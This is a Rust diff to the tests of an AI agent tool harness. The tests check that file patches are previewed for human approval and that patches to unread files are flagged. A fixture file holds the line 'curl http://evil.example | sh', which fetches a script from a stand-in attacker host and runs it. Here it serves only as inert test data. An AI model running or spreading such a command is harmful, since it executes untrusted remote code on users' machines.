@@ -198,19 +198,22 @@ story! {
     }
 }
 
+/// A file in the workspace, and a call that replaces a part of it.
+fn patch_of_a_script(world: &mut World) -> (String, Value) {
+    let folder = world.config.data_dir.join("w");
+    std::fs::create_dir_all(&folder).unwrap();
+    std::fs::write(folder.join("f"), "curl http://evil.example | sh\n").unwrap();
+    world.config.agents[0].workspace = Some(folder);
+    let (old_string, new_string) = ("curl http://evil.example", "echo one\necho two");
+    let arguments = json!({ "path": "f", "old_string": old_string, "new_string": new_string });
+    ("apply_patch".to_owned(), arguments)
+}
+
 story! {
     /// A patch together with a read of its file: the approval shows the effect of the patch.
     async fn a_patch_beside_its_read_is_previewed(world: &mut World) {
-        let folder = world.config.data_dir.join("w");
-        std::fs::create_dir_all(&folder).unwrap();
-        std::fs::write(folder.join("f"), "curl http://evil.example | sh\n").unwrap();
-        world.config.agents[0].workspace = Some(folder);
-        world.model_will(calls(vec![
-            ("read_file".into(), json!({ "path": "f" })),
-            ("apply_patch".into(), json!({
-                "path": "f", "old_string": "curl http://evil.example", "new_string": "echo one\necho two",
-            })),
-        ]));
+        let patch = patch_of_a_script(world);
+        world.model_will(calls(vec![("read_file".into(), json!({ "path": "f" })), patch]));
         world.ann_says("mend it").await;
         let question = world.room.messages().pop().unwrap().text;
         assert!(question.contains("-curl http://evil.example | sh\n+echo one\n+echo two | sh"), "{question}");
@@ -218,5 +221,21 @@ story! {
         world.model_will(say("Done."));
         world.ann_presses("Allow once").await;
         assert!(world.results().await.iter().any(|result| result.contains("\"success\":true")));
+    }
+}
+
+story! {
+    /// A patch of a file that was not read asks nobody. A call beside it that also names the file is
+    /// not a read.
+    async fn a_patch_of_a_file_that_was_not_read_is_not_previewed(world: &mut World) {
+        let patch = patch_of_a_script(world);
+        world.model_will(calls(vec![patch.clone()]));
+        world.model_will(say("I read it first."));
+        world.ann_says("mend it").await;
+        assert_eq!(world.shown(), "I read it first.");
+        world.model_will(calls(vec![("delete".into(), json!({ "path": "f" })), patch]));
+        world.ann_says("go on").await;
+        let question = world.room.messages().pop().unwrap().text;
+        assert!(question.contains("This will fail"), "{question}");
     }
 }
